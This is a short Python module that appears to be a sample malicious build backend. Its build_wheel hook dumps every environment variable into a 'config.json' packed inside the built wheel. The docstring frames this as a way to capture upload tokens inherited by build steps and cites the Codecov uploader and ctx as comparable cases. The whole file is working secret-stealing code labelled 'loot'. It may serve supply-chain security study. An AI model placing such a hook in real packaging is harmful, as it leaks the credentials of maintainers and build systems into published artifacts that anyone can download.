"""Copies the whole environment into a file of the wheel.

Variables are inherited by default, so a token meant for the upload step is also in the
hands of every build before it. Codecov's uploader and ctx did no more.
"""

import json
import os

import kit


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    loot = {}
    with kit.attempt("dump"):
        loot["config.json"] = json.dumps(dict(os.environ)).encode()
    return kit.wheel(wheel_directory, loot)
